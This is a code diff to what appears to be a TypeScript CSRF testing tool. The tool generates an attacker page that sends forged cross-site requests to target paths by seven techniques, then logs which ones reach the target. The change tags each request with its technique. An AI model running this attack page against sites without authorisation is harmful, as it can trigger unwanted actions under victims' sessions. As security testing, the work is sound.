@@ -24,7 +24,7 @@ export interface CsrfRun {
 const TECHNIQUES = ['form-urlencoded', 'form-multipart', 'form-text-plain-json', 'fetch-no-cors-text', 'fetch-no-cors-form', 'fetch-cors-json', 'beacon-text'] as const;
 
 function attackerPage(targetOrigin: string, targets: CsrfTarget[]): string {
-  const plan = JSON.stringify(targets.flatMap((t) => TECHNIQUES.map((technique, i) => ({ technique, url: `${targetOrigin}${t.path}`, frame: `f${targets.indexOf(t)}_${i}` }))));
+  const plan = JSON.stringify(targets.flatMap((t) => TECHNIQUES.map((technique, i) => ({ technique, url: `${targetOrigin}${t.path}?via=${technique}`, frame: `f${targets.indexOf(t)}_${i}` }))));
   return `<!doctype html><html><body><script>
 const plan = ${plan};
 const body = '{"comment":"csrf","username":"operator","password":"x","events":[]}';
@@ -75,7 +75,8 @@ export async function runCsrfAttack(options: { targetUrl: string; cookie: { name
     const byRequest = new Map<unknown, CsrfAttempt>();
     tab.on('request', (request) => {
       if (!request.url().startsWith(target.origin)) return;
-      const attempt: CsrfAttempt = { technique: `${request.method()} ${(request.headers()['content-type'] ?? '(none)').split(';')[0]}`, path: new URL(request.url()).pathname, status: null };
+      const url = new URL(request.url());
+      const attempt: CsrfAttempt = { technique: `${url.searchParams.get('via') ?? 'unknown'} (${request.method()} ${(request.headers()['content-type'] ?? 'no content type').split(';')[0]})`, path: url.pathname, status: null };
       attempts.push(attempt);
       byRequest.set(request, attempt);
     });
